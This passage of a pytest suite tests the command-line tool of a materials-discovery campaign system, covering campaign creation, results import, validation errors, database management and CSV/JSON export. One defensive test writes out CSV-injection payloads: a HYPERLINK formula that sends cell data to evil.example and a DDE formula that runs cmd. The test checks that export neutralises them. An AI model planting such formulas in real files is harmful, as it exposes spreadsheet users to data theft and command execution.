            "one composition",
        ),
    ],
)
def test_bad_create_arguments_fail_with_a_message(
    cli: CliRunner, args: list[str], message: str, tmp_path: Path
) -> None:
    (tmp_path / "x.csv").write_text("a,y\n1,2\n")
    (tmp_path / "dup.csv").write_text("f,y\nFe2O3,1\nFeO,2\nO3Fe2,3\n")  # rows 1 and 3: one
    result = cli.invoke(
        app,
        [
            "campaign",
            "create",
            "c",
            *[str(tmp_path / a) if a.endswith(".csv") else a for a in args],
        ],
    )
    assert result.exit_code == 1
    assert message in result.output


def test_export_keeps_constraint_values_and_parameters_named_like_its_columns(
    cli: CliRunner, tmp_path: Path
) -> None:
    # a pool column called "status" must not overwrite the trial's status
    table = tmp_path / "pool.csv"
    table.write_text("x,status,y,gap\n0.1,ok,1.0,1.2\n0.2,ok,2.0,1.5\n0.3,bad,3.0,2.0\n")
    create = ["campaign", "create", "c1", "--from-csv", str(table), "--objective", "y:max"]
    _ok(cli, *create, "--constraint", "gap:1.1:1.7", "--param", "x", "--param", "status")
    header = _ok(cli, "campaign", "export", "c1").splitlines()  # no trials yet: the columns
    assert header == [
        "trial_id,batch,status,strategy,candidate,label,model_version,acquisition_value,x,"
        "parameter.status,y,gap,feasible,claimed_by,reason,units,reported,source,idempotency_key,"
        "created_at,received_at,recorded_by,corrections,parts,handoffs"
    ]
    [trial] = json.loads(_ok(cli, "campaign", "propose", "c1", "-n", "1", "--json"))
    assert trial["status"] in {"ok", "bad"}  # propose has no status column of its own
    results = tmp_path / "results.csv"
    # written by a spreadsheet: a byte-order mark before the header
    results.write_text(f"\ufefftrial_id,y,gap\n{trial['trial_id']},2.5,1.4\n", encoding="utf-8")
    assert "stored 1" in _ok(cli, "campaign", "observe", "c1", "--from-file", str(results))
    shown = _ok(cli, "campaign", "show", "c1")
    assert "constraint gap in [1.1, 1.7]" in shown and "feasible results: 1 of 1" in shown
    [row] = csv.DictReader(io.StringIO(_ok(cli, "campaign", "export", "c1")))
    assert (row["status"], row["parameter.status"]) == ("completed", trial["status"])
    assert (row["y"], row["gap"], row["feasible"]) == ("2.5", "1.4", "True")
    assert list(row)[-8:-4] == ["source", "idempotency_key", "created_at", "received_at"]
    assert (row["recorded_by"], row["corrections"]) == ("", "[]")  # from the command line
    unwritable = cli.invoke(app, ["campaign", "export", "c1", "--output", "/no/such/dir/c1.csv"])
    assert unwritable.exit_code == 1 and "/no/such/dir/c1.csv" in unwritable.output


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        (
            "trial_id,degradation,degradation\nTRIAL,0.1,0.9\n",
            "['degradation'] appear more than once",
        ),
        (f"trial_id,degradation\nTRIAL,0.1\n{'0' * 24},0.2\n", "results.csv: data row 2: "),
    ],
)
def test_observe_refuses_a_bad_file_naming_what_is_wrong(
    cli: CliRunner, tmp_path: Path, rows: str, message: str
) -> None:
    _ok(cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS))
    trial = json.loads(_ok(cli, "campaign", "propose", "opv", "--json"))[0]["trial_id"]
    results = tmp_path / "results.csv"
    results.write_text(rows.replace("TRIAL", trial))
    result = cli.invoke(app, ["campaign", "observe", "opv", "--from-file", str(results)])
    assert result.exit_code == 1
    assert message in result.output.replace("\n", "")
    assert MeasurementDocument.objects.count() == 0


def test_observe_names_every_bad_row_of_a_file_at_once(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    _ok(cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS))
    trials = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "3", "--json"))
    one, _, three = (t["trial_id"] for t in trials)
    results = tmp_path / "results.csv"
    results.write_text(f"trial_id,degradation\n{one},0.1\n{'0' * 24},0.2\n{three},nan\n")
    result = cli.invoke(app, ["campaign", "observe", "opv", "--from-file", str(results)])
    assert result.exit_code == 1
    assert f"{results}: 2 of 3 results are refused, and none is stored:" in result.output
    assert f"data row 2: trial_id: '{'0' * 24}' is not a trial" in result.output
    assert "data row 3: " in result.output and "not finite" in result.output
    assert MeasurementDocument.objects.count() == 0


def test_observe_nan_fails_and_stores_nothing(cli: CliRunner) -> None:
    _ok(cli, "campaign", "create", "opv", "--from-olympus", str(OLYMPUS))
    trial = json.loads(_ok(cli, "campaign", "propose", "opv", "--json"))[0]["trial_id"]
    result = cli.invoke(
        app, ["campaign", "observe", "opv", "--trial", trial, "--value", "degradation=nan"]
    )
    assert result.exit_code == 1
    assert "not finite" in result.output
    assert MeasurementDocument.objects.count() == 0


def test_unknown_campaign_is_an_error_not_a_traceback(cli: CliRunner) -> None:
    result = cli.invoke(app, ["campaign", "show", "ghost"])
    assert result.exit_code == 1
    assert "no campaign named 'ghost'" in result.output


def test_db_commands_manage_the_embedded_server(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("MATLOOP_MONGODB_URI", raising=False)
    monkeypatch.setenv("MATLOOP_HOME", str(tmp_path))
    monkeypatch.setenv("MATLOOP_DB_PORT", str(free_port()))
    cli = CliRunner()
    assert cli.invoke(app, ["db", "status"]).exit_code == 1
    result = cli.invoke(app, ["campaign", "list"])
    assert result.exit_code == 1 and "matloop db start" in result.output
    try:
        assert "database running" in _ok(cli, "db", "start")
        assert "database running" in _ok(cli, "db", "status")
        assert (tmp_path / "secantusd.log").exists()
        assert "name" in _ok(cli, "campaign", "list")
    finally:
        assert "stopped" in _ok(cli, "db", "stop")
    assert cli.invoke(app, ["db", "status"]).exit_code == 1


def test_serve_waits_for_a_database_that_boots_after_it(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import matloop.cli as cli_module

    tries: list[int] = []

    def booting() -> str:
        tries.append(1)
        if len(tries) == 1:  # the embedded server is still starting
            raise cli_module.DatabaseNotRunning("the embedded database is not running")
        if len(tries) == 2:
            raise ConnectionError("no MongoDB answers at mongodb://db:27017/matloop")
        return "store"

    monkeypatch.setattr(cli_module, "store", booting)
    assert cli_module.wait_for_store(10, pause=0.01) == "store" and len(tries) == 3
    waited = capsys.readouterr().err
    assert "waiting for the database: the embedded database is not running" in waited
    assert "waiting for the database: no MongoDB answers" in waited
    tries.clear()
    with pytest.raises(ConnectionError):  # 0: fail at once, as before
        cli_module.wait_for_store(0, pause=0.01)
    assert len(tries) == 1


def test_create_reads_formulas_as_their_writers_meant(cli: CliRunner, tmp_path: Path) -> None:
    # a chemist's abbreviation: STO is SrTiO3 (pymatgen alone reads S, tritium, O)
    (tmp_path / "titanates.csv").write_text("f,gap\nBaTiO3,3.2\nSTO,3.3\n")
    (tmp_path / "cuprates.csv").write_text("f,tc\nLa2CuO4,30\nYBCO,92\n")
    csv_args = ["--composition", "f", "--objective"]
    created = _ok(
        cli, "campaign", "create", "t", "--from-csv", str(tmp_path / "titanates.csv"),
        *csv_args, "gap:max",
    )  # fmt: skip
    assert "2 candidates, 4 parameters" in created  # Ba, Sr, Ti, O: no H, no S
    refused = cli.invoke(
        app,
        ["campaign", "create", "c", "--from-csv", str(tmp_path / "cuprates.csv"),
         *csv_args, "tc:max"],
    )  # fmt: skip
    assert refused.exit_code == 1
    assert "'f' in data row 2: 'YBCO' is the abbreviation of YBa2Cu3O7" in refused.output
    grid = ["--elements", "Sr,Ba,Ca,Ti,Zr,O", "--max-elements", "3", "--objective", "g:max"]
    swaps = _ok(cli, "campaign", "create", "s", *grid, "--substitute-from", "STO")
    assert "generated compositions" in swaps


@pytest.mark.parametrize(
    ("known", "message"),
    [
        (
            "La0.7Sr0.3MnO3",
            "--substitute-from: 'La0.7Sr0.3MnO3': no oxidation states fit a non-integer"
            " composition; give an integer formula such as LaMnO3",
        ),
        ("Fe(III)2O3", "--substitute-from: 'Fe(III)2O3': 'Fe(III)' gives an oxidation state"),
        ("YBCO", "--substitute-from: 'YBCO' is the abbreviation of YBa2Cu3O7"),
    ],
)
def test_a_known_formula_that_cannot_be_substituted_refuses_the_campaign(
    cli: CliRunner, known: str, message: str
) -> None:
    args = ["campaign", "create", "swaps", "--elements", "Li,Na,La,Sr,Mn,Co,Fe,O"]
    args += ["--objective", "g:max", "--substitute-from", "LiCoO2", "--substitute-from", known]
    result = cli.invoke(app, args)
    assert result.exit_code == 1
    assert message in result.output
    assert "swaps" not in _ok(cli, "campaign", "list")  # not a campaign of LiCoO2 alone


def test_an_installed_acquisition_plugin_runs_a_campaign(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from discovery.acquisition import ACQUISITIONS, load_plugins
    from tests.discovery.test_acquisition_plugins import install_plugin

    install_plugin(tmp_path, "plug_ucb", "my_acquisitions:build")
    monkeypatch.syspath_prepend(str(tmp_path))
    load_plugins.cache_clear()
    monkeypatch.setattr("discovery.acquisition.ACQUISITIONS", dict(ACQUISITIONS))  # undone after
    create = ("campaign", "create", "mine", "--from-olympus", str(OLYMPUS), "--initial", "4")
    _ok(cli, *create, "--acquisition", "plug_ucb", "--batch", "2")
    _ok(cli, "campaign", "run", "mine", "--rounds", "2")
    trials = json.loads(_ok(cli, "campaign", "export", "mine", "--format", "json"))
    strategies = [t["strategy"] for t in trials]
    assert strategies == ["random"] * 4 + ["gp+plug_ucb"] * 4  # two batches of 2
    load_plugins.cache_clear()


def test_a_failing_surrogate_plugin_is_an_error_line_naming_it(
    cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    from discovery.campaign_models import SURROGATE_PLUGINS, register_surrogate

    def fit(inputs: object) -> object:
        raise RuntimeError("did not converge")

    monkeypatch.setattr("discovery.campaign_models.SURROGATE_PLUGINS", dict(SURROGATE_PLUGINS))
    register_surrogate("stubborn", fit)
    create = ("campaign", "create", "stuck", "--from-olympus", str(OLYMPUS), "--initial", "4")
    _ok(cli, *create, "--strategy", "stubborn", "--batch", "2")
    result = cli.invoke(app, ["campaign", "run", "stuck", "--rounds", "3"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert "error: surrogate plugin 'stubborn' (" in result.output
    assert "RuntimeError: did not converge" in result.output


def test_a_mongodb_uri_without_its_scheme_is_an_error_naming_the_variable(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # read as a path, "127.0.0.1:27961" was the database name: pymongo's InvalidName
    monkeypatch.setenv("MATLOOP_MONGODB_URI", "127.0.0.1:27961")
    result = CliRunner().invoke(app, ["campaign", "list"])
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    assert result.output.startswith(
        "error: MATLOOP_MONGODB_URI: '127.0.0.1:27961' is not a MongoDB URI"
    )
    assert "did you mean 'mongodb://127.0.0.1:27961'?" in result.output


def test_db_status_with_a_mongodb_uri_without_its_scheme_is_an_error_line(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MATLOOP_MONGODB_URI", "127.0.0.1:27961")
    result = CliRunner().invoke(app, ["db", "status"])
    assert result.exit_code == 1, result.output
    assert result.output.startswith("error: MATLOOP_MONGODB_URI: '127.0.0.1:27961' is not")


def test_campaigns_are_refused_for_a_token_other_than_an_instruments(cli: CliRunner) -> None:
    args = ["token", "create", "r2", "--role", "researcher", "--campaign", "opv"]
    refused = cli.invoke(app, args)
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert refused.output.startswith(
        "error: campaigns: they limit the campaigns an instrument token writes to; "
        "role 'researcher' has read access to every campaign"
    ), refused.output
    assert "r2" not in _ok(cli, "token", "list").split()  # nothing stored


def test_export_writes_no_text_cell_a_spreadsheet_would_run(cli: CliRunner, tmp_path: Path) -> None:
    from agents import CampaignAgent
    from db import CampaignStore

    hyperlink, dde = '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"
    pool = tmp_path / "pool.csv"
    pool.write_text("@x,degradation\n0.1,1.0\n0.2,2.0\n0.3,1.5\n")  # a column named as a formula
    create = ("campaign", "create", "opv", "--from-csv", str(pool), "--param", "@x")
    _ok(cli, *create, "--objective", "degradation:min")
    proposed = json.loads(_ok(cli, "campaign", "propose", "opv", "-n", "2", "--json"))
    failing, measured = (t["trial_id"] for t in proposed)
    CampaignAgent(CampaignStore(), "opv").fail(failing, reason=hyperlink)
    results = tmp_path / "results.json"
    row = {"trial_id": measured, "values": {"degradation": -0.5}, "idempotency_key": dde}
    results.write_text(json.dumps([row]))
    _ok(cli, "campaign", "observe", "opv", "--from-file", str(results))

    exported = csv.DictReader(io.StringIO(_ok(cli, "campaign", "export", "opv")))
    rows = {r["trial_id"]: r for r in exported}
    assert rows[failing]["reason"] == "'" + hyperlink
    assert rows[measured]["idempotency_key"] == "'" + dde
    assert rows[measured]["degradation"] == "-0.5"  # a number, written as one
    assert float(rows[measured]["'@x"]) in {0.1, 0.2, 0.3}  # the header's cell too
    # JSON holds everything as stored
    as_json = json.loads(_ok(cli, "campaign", "export", "opv", "--format", "json"))
    by_id = {r["trial_id"]: r for r in as_json}
    assert by_id[failing]["reason"] == hyperlink and "@x" in by_id[failing]
    assert (by_id[measured]["idempotency_key"], by_id[measured]["degradation"]) == (dde, -0.5)


def test_a_restore_names_the_tokens_it_makes_valid_again(cli: CliRunner, tmp_path: Path) -> None:
    from db.tokens import create_token, revoke_token

    create_token("robot", "researcher")
    _ok(cli, "db", "dump", str(tmp_path / "dump"))
    revoke_token("robot")  # a leaked token, revoked after the dump
    restored = _ok(cli, "db", "restore", str(tmp_path / "dump"), "--drop")
    assert "tokens revoked since the dump are valid again: robot" in restored


def test_a_restore_over_documents_names_the_option_to_pass(cli: CliRunner, tmp_path: Path) -> None:
    from db.tokens import create_token

    create_token("robot", "researcher")
    _ok(cli, "db", "dump", str(tmp_path / "dump"))
    refused = cli.invoke(app, ["db", "restore", str(tmp_path / "dump")])
    assert refused.exit_code == 1
    assert "are not empty; pass --drop" in refused.output
    assert "drop=True" not in refused.output  # the Python argument, not the option


def test_a_campaign_name_is_checked_before_its_pool_is_read(cli: CliRunner) -> None:
    result = cli.invoke(app, ["campaign", "create", "has space", "--from-csv", "missing.csv"])
    assert result.exit_code == 1
    assert "name: 'has space' must start with a letter or digit" in result.output


def test_the_proposal_table_keeps_trial_ids_whole_in_a_wide_system(
    cli: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    elements = "Fe,Ni,Co,Mn,Cu,Zn,Ti,V,Cr,Al,Mg,Si,O,N"
    _ok(cli, "campaign", "create", "wide", "--elements", elements, "--max-elements", "2",
        "--grid", "2", "--objective", "gap:max")  # fmt: skip
    table = _ok(cli, "campaign", "propose", "wide", "-n", "2")
    [exported] = [json.loads(_ok(cli, "campaign", "export", "wide", "--format", "json"))]
    for trial in exported:  # the ids to report results with, and what to make
        assert trial["trial_id"] in table and trial["formula"] in table


def _measured(batch: str, tmp_path: Path, table: str, *args: str) -> Path:
    """Results for a proposed batch, written by examples/measure.py (the README's lab)."""
    (tmp_path / "batch.json").write_text(batch)
    command = [sys.executable, str(EXAMPLES / "measure.py"), str(tmp_path / "batch.json")]
    done = subprocess.run(
        [*command, str(EXAMPLES / "data" / table), *args],
        capture_output=True,
        text=True,
        check=True,
    )
    results = tmp_path / "results.csv"
    results.write_text(done.stdout)
    return results


def test_the_readme_example_tables_make_campaigns_that_take_results(
    cli: CliRunner, tmp_path: Path
) -> None:
    data = EXAMPLES / "data"
    created = _ok(
        cli, "campaign", "create", "alloys", "--from-csv", str(data / "alloys.csv"),
        "--objective", "hardness:max:HV", "--param", "x", "--param", "y", "--param", "solvent",
    )  # fmt: skip
    assert "72 candidates, 3 parameters, objective hardness (max, HV)" in " ".join(created.split())
    batch = _ok(cli, "campaign", "propose", "alloys", "-n", "4", "--json")
    results = _measured(batch, tmp_path, "alloys.csv", "hardness")
    header, *rows = results.read_text().splitlines()
    assert header == "trial_id,hardness,idempotency_key" and len(rows) == 4
    assert "stored 4, already stored 0" in _ok(
        cli, "campaign", "observe", "alloys", "--from-file", str(results)
    )
    with (data / "alloys.csv").open() as handle:
        table = {
            (r["x"], r["y"], r["solvent"]): float(r["hardness"]) for r in csv.DictReader(handle)
        }
    for trial in json.loads(_ok(cli, "campaign", "export", "alloys", "--format", "json")):
        point = (f"{trial['x']:g}", f"{trial['y']:g}", trial["solvent"])
        assert trial["hardness"] == table[point]

    # a lab reporting meV: converted to the campaign's eV
    created = _ok(
        cli, "campaign", "create", "pv", "--from-csv", str(data / "absorbers.csv"),
        "--objective", "band_gap:max:eV", "--param", "x", "--param", "z", "--label", "sample",
    )  # fmt: skip
    assert "91 candidates, 2 parameters, objective band_gap (max, eV)" in " ".join(created.split())
    assert "column(s) ['efficiency'] not read (a measured one: --objective" in created
    batch = _ok(cli, "campaign", "propose", "pv", "-n", "2", "--json")
    gaps = _measured(batch, tmp_path, "absorbers.csv", "band_gap", "--scale", "band_gap=1000")
    observe = ("campaign", "observe", "pv", "--from-file", str(gaps), "--unit", "band_gap=meV")
    assert "stored 2, already stored 0" in _ok(cli, *observe)
    with (data / "absorbers.csv").open() as handle:
        rows = list(csv.DictReader(handle))
    table = {(r["x"], r["z"]): float(r["band_gap"]) for r in rows}
    samples = {(r["x"], r["z"]): r["sample"] for r in rows}
    proposed = {t["trial_id"]: t["label"] for t in json.loads(batch)}
    for trial in json.loads(_ok(cli, "campaign", "export", "pv", "--format", "json")):
        point = f"{trial['x']:g}", f"{trial['z']:g}"
        assert trial["band_gap"] == pytest.approx(table[point])
        assert trial["reported"]["band_gap"]["unit"] == "meV"
        assert trial["label"] == samples[point] == proposed[trial["trial_id"]]  # P001, ...

    feasible = _ok(
        cli, "campaign", "create", "pv-feasible", "--from-csv", str(data / "absorbers.csv"),
        "--objective", "efficiency:max:%", "--constraint", "band_gap:1.1:1.7:eV",
        "--param", "x", "--param", "z",
    )  # fmt: skip
    said = " ".join(feasible.split())
    assert "objective efficiency (max, %)" in said
    assert "note: column(s) ['sample'] not read" in said and "sample id: --label)" in said
    moduli = _ok(
        cli, "campaign", "create", "moduli", "--from-csv", str(data / "moduli.csv"),
        "--composition", "formula", "--objective", "bulk_modulus:max:GPa",
    )  # fmt: skip
    assert "120 candidates" in moduli
    assert "objective bulk_modulus (max, GPa)" in " ".join(moduli.split())
    with (data / "moduli.csv").open() as handle:
        written = {r["formula"] for r in csv.DictReader(handle)}
    for trial in json.loads(_ok(cli, "campaign", "propose", "moduli", "-n", "3", "--json")):
        assert trial["label"] in written  # as the file writes it: F3K1Pd1, not KPdF3


def test_a_correction_by_a_user_without_a_name_is_the_operators(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import getpass

    from matloop import cli

    def nameless() -> str:
        raise KeyError("getpwuid(): uid not found: 1000640000")

    monkeypatch.setattr(getpass, "getuser", nameless)
    assert cli._login() == "operator"


def test_a_unit_pint_does_not_know_is_noted_at_creation(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y,g\n0.1,9,1\n0.3,2,2\n0.5,5,3\n")
    args = ["campaign", "create", "typo", "--from-csv", str(pool), "--param", "x"]
    created = _ok(cli, *args, "--objective", "y:max:pecent", "--constraint", "g:0:5:eV")
    said = " ".join(created.split())
    assert "note: y's unit 'pecent' is not one pint knows" in said and "g's unit" not in said
    meant = _ok(cli, *args[:2], "labelled", *args[3:], "--objective", "y:max:at%")
    assert "not one pint knows" not in meant  # a label meant to match only itself
    assert "the objective is named" not in created + meant


def test_an_objective_written_with_its_unit_before_the_direction_is_noted(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n0.1,9\n0.3,2\n0.5,5\n")
    swapped = cli.invoke(app, ["campaign", "create", "c", "--from-csv", str(pool),
                               "--objective", "y:%:max"])  # fmt: skip
    said = " ".join(swapped.output.split())
    assert "the objective is named 'y:%', without a unit" in said
    assert "write --objective y:max:% (the unit comes last)" in said
    assert swapped.exit_code == 1 and "column 'y:%' not found" in said
    generated = _ok(cli, "campaign", "create", "g", "--elements", "Fe,O", "--objective",
                    "gap:eV:min")  # fmt: skip
    assert "write --objective gap:min:eV" in " ".join(generated.split())
    colon = _ok(cli, "campaign", "create", "k", "--from-csv", str(pool), "--param", "x",
                "--objective", "y:max")  # fmt: skip
    assert "the objective is named" not in colon


def test_a_results_row_whose_label_or_parameters_are_another_trials_is_refused(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # the file's path, however long, on one line
    pool = tmp_path / "pool.csv"
    pool.write_text(
        "sample,x,solvent,y\n"
        + "".join(f"S{i:02d},{i / 30:.6f},{('water', 'ethanol')[i % 2]},{i}\n" for i in range(30))
    )
    create = ["campaign", "create", "lab", "--from-csv", str(pool), "--objective", "y:max"]
    _ok(cli, *create, "--label", "sample", "--initial", "4")
    first, second = json.loads(_ok(cli, "campaign", "propose", "lab", "-n", "2", "--json"))
    results = tmp_path / "results.csv"

    def observe(*rows: tuple[dict, str, str, str]) -> Result:
        lines = [f"{t['trial_id']},{label},{x},{solvent},7" for t, label, x, solvent in rows]
        results.write_text("\n".join(["trial_id,label,x,solvent,y", *lines]) + "\n")
        return cli.invoke(app, ["campaign", "observe", "lab", "--from-file", str(results)])

    x1, x2 = f"{first['x']:.2f}", f"{second['x']:.2f}"  # rounded as a spreadsheet shows them
    swapped = observe((first, first["label"], x1, first["solvent"]),
                      (second, first["label"], x2, second["solvent"]))  # fmt: skip
    assert swapped.exit_code == 1, swapped.output
    said = " ".join(swapped.output.split())
    assert (
        f"data row 2: label {first['label']!r} is not trial {second['trial_id']}'s "
        f"({second['label']!r}): were rows mixed up? Nothing was stored"
    ) in said
    moved = float(x2) + 0.02  # two hundredths off: no rounding of the trial's x gives it
    wrong_x = observe((second, second["label"], f"{moved:.2f}", second["solvent"]))
    assert wrong_x.exit_code == 1
    assert f"data row 1: x '{moved:.2f}' is not trial {second['trial_id']}'s" in wrong_x.output
    other = "ethanol" if second["solvent"] == "water" else "water"
    wrong_choice = observe((second, second["label"], x2, other))
    assert f"data row 1: solvent {other!r} is not trial" in wrong_choice.output
    assert "completed" not in _ok(cli, "campaign", "show", "lab")  # nothing was stored
    right = observe((first, first["label"], x1, first["solvent"]),
                    (second, second["label"], x2, second["solvent"]))  # fmt: skip
    assert right.exit_code == 0 and "stored 2" in right.output, right.output


def test_a_lab_creates_a_campaign_of_candidates_it_will_measure(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # messages naming the file's path on one line
    pool = tmp_path / "lab.csv"
    pool.write_text(
        "sample,x,solvent\n"
        + "".join(f"S{i:02d},{i / 20:.3f},{('water', 'ethanol')[i % 2]}\n" for i in range(20))
    )
    create = ["campaign", "create", "lab", "--from-csv", str(pool), "--objective", "y:max:%"]
    missing = cli.invoke(app, create)  # a measured table is meant unless told
    assert missing.exit_code == 1
    assert "column 'y' not found" in missing.output
    assert "campaign create --unmeasured" in " ".join(missing.output.split())
    created = _ok(cli, *create, "--unmeasured", "--label", "sample", "--initial", "3")
    assert "20 candidates, 2 parameters, objective y (max, %)" in " ".join(created.split())
    batch = json.loads(_ok(cli, "campaign", "propose", "lab", "-n", "3", "--json"))
    assert {t["label"] for t in batch} <= {f"S{i:02d}" for i in range(20)}
    rows = [f"{t['trial_id']},{t['label']},{i + 1}" for i, t in enumerate(batch)]
    results = tmp_path / "results.csv"
    results.write_text("trial_id,label,y\n" + "\n".join(rows) + "\n")
    assert "stored 3" in _ok(cli, "campaign", "observe", "lab", "--from-file", str(results))
    assert "best y = 3 %" in " ".join(_ok(cli, "campaign", "show", "lab").split())
    [chosen] = json.loads(_ok(cli, "campaign", "propose", "lab", "-n", "1", "--json"))
    assert chosen["strategy"] == "gp"  # the model chooses from the lab's results
    ran = cli.invoke(app, ["campaign", "run", "lab", "--rounds", "1"])
    assert ran.exit_code == 1  # nothing to look its values up in
    assert "this pool is not a measured data set" in " ".join(ran.output.split())


def test_a_table_of_candidates_partly_measured_starts_from_its_results(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    pool = tmp_path / "half.csv"
    rows = [f"S{i:02d},{i / 20:.3f},{i if i % 5 == 0 else ''}" for i in range(20)]
    pool.write_text("sample,x,y\n" + "\n".join(rows) + "\n")  # S00, S05, S10, S15 measured
    created = _ok(cli, "campaign", "create", "half", "--from-csv", str(pool), "--objective",
                  "y:max", "--unmeasured", "--label", "sample", "--initial", "6")  # fmt: skip
    assert "4 row(s) hold results" in created
    assert "2 random experiment(s) complete the initial design of 6" in " ".join(created.split())
    assert "best y = 15" in " ".join(_ok(cli, "campaign", "show", "half").split())
    one = tmp_path / "one.csv"  # one result, and a model needs two
    one.write_text("x,y\n0.1,1\n0.2,\n0.3,\n")
    single = _ok(cli, "campaign", "create", "one", "--from-csv", str(one), "--objective",
                 "y:max", "--unmeasured", "--initial", "1")  # fmt: skip
    assert "1 random experiment(s) complete the initial design of 2" in " ".join(single.split())
    exported = json.loads(_ok(cli, "campaign", "export", "half", "--format", "json"))
    assert {t["label"]: t["y"] for t in exported} == {"S00": 0, "S05": 5, "S10": 10, "S15": 15}
    assert {t["strategy"] for t in exported} == {"imported"}
    high = _ok(cli, "campaign", "export", "half", "--format", "json", "--filter", "values.y > 7")
    assert sorted(t["label"] for t in json.loads(high)) == ["S10", "S15"]
    design = json.loads(_ok(cli, "campaign", "propose", "half", "--json"))
    assert len(design) == 2 and {t["strategy"] for t in design} == {"random"}
    assert not {t["label"] for t in design} & {"S00", "S05", "S10", "S15"}
    imported = next(t for t in exported if t["label"] == "S05")
    traced = " ".join(_ok(cli, "lineage", "trial", "half", imported["trial_id"]).split())
    assert f"trial {imported['trial_id']}: S05, batch b0000" in traced
    assert "measured before the campaign began" in traced
    again = tmp_path / "again.csv"  # an imported result sent again as a lab's
    again.write_text("label,y\nS05,5\n")
    refused = cli.invoke(app, ["campaign", "observe", "half", "--from-file", str(again)])
    assert refused.exit_code == 1 and "is completed" in refused.output
    for t in design:
        _ok(cli, "campaign", "observe", "half", "--trial", t["trial_id"], "--value", "y=1")
    [chosen] = json.loads(_ok(cli, "campaign", "propose", "half", "-n", "1", "--json"))
    assert chosen["strategy"] == "gp" and chosen["batch"] == "b0002"


def test_unmeasured_is_refused_where_a_row_is_half_measured_or_not_a_csv(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "half.csv"
    pool.write_text("x,y,gap\n0.1,,\n0.2,5,\n0.3,,\n")
    create = ["campaign", "create", "half", "--from-csv", str(pool), "--objective", "y:max"]
    mixed = cli.invoke(app, [*create, "--constraint", "gap:1:2", "--unmeasured"])
    assert mixed.exit_code == 1
    assert "data row 2 holds ['y'] but not ['gap']" in " ".join(mixed.output.split())
    olympus = cli.invoke(
        app, ["campaign", "create", "o", "--from-olympus", "photo_pce10", "--unmeasured"]
    )
    assert olympus.exit_code == 1 and "--unmeasured" in olympus.output
    assert "half" not in _ok(cli, "campaign", "list") and " o " not in _ok(cli, "campaign", "list")


def test_a_results_file_is_read_as_a_lab_writes_it_and_refused_by_name(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # messages naming the file's path on one line
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n" + "".join(f"{i / 10},{i}\n" for i in range(10)))
    _ok(cli, "campaign", "create", "c", "--from-csv", str(pool), "--objective", "y:max")
    first, second = json.loads(_ok(cli, "campaign", "propose", "c", "-n", "2", "--json"))
    one, two = first["trial_id"], second["trial_id"]
    results = tmp_path / "results.csv"

    def observe(text: str) -> str:
        results.write_text(text)
        done = cli.invoke(app, ["campaign", "observe", "c", "--from-file", str(results)])
        return f"{done.exit_code} " + " ".join(done.output.split())

    said = observe(f"trial_id,y,notes\n{one},1,ok\n")
    assert said == (
        f"1 error: {results}: column(s) ['notes'] are not outcomes of the campaign (['y']) "
        "nor a proposal's columns: rename or drop them"
    )
    assert "(its columns look separated by ';': use commas)" in observe(f"trial_id;y\n{one};1\n")
    assert observe(f"trial_id,y\n{one},1\n{two},2\n{one},3\n") == (
        f"1 error: {results}: data row 3: trial {one} has a result in data row 1 too: one "
        "result per trial (a stored one is replaced by `campaign correct`)"
    )
    assert "completed" not in _ok(cli, "campaign", "show", "c")  # nothing was stored
    assert observe(f"trial_id , y\n {one} ,1\n{one},1\n") == "0 stored 1, already stored 1"
    again = cli.invoke(app, ["campaign", "observe", "c", "--trial", one, "--value", "y=2"])
    assert " ".join(again.output.split()) == (
        f"error: --key: 'manual:{one}' was already used for a different result"
    )
    robot = ["--trial", one, "--value", "y=2", "--source", "robot"]
    later = cli.invoke(app, ["campaign", "observe", "c", *robot])
    assert " ".join(later.output.split()) == (
        f"error: trial {one} is completed; only proposed or running trials accept results "
        "(its result is stored under another idempotency key; to replace it: `campaign "
        "correct` or POST .../trials/{id}/correction)"
    )


def test_a_result_far_from_every_earlier_one_is_noted_as_a_unit_slip(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    pool = tmp_path / "pool.csv"
    pool.write_text("x,gap\n" + "".join(f"{i / 10},{1 + i / 10}\n" for i in range(10)))
    create = ["campaign", "create", "pv", "--from-csv", str(pool), "--objective", "gap:max:eV"]
    _ok(cli, *create, "--initial", "6")
    trials = json.loads(_ok(cli, "campaign", "propose", "pv", "-n", "6", "--json"))
    for trial, gap in zip(trials[:3], ("1.2", "1.5", "1.9"), strict=True):
